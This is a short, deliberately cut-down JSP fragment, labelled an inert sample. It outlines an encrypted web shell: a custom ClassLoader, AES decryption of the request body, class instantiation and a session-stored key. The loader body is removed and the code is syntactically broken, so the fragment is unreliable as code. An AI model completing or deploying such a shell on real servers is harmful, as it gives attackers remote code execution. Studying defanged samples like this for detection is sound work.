<%@ page import="java.util.*"  <%-- inert sample: cut short --%>
<%!class U extends ClassLoader{ /* removed */ defineClass(b,0,1) }
Cipher.getInstance("AES"); request.getReader(); newInstance(); session.putValue("u",k);
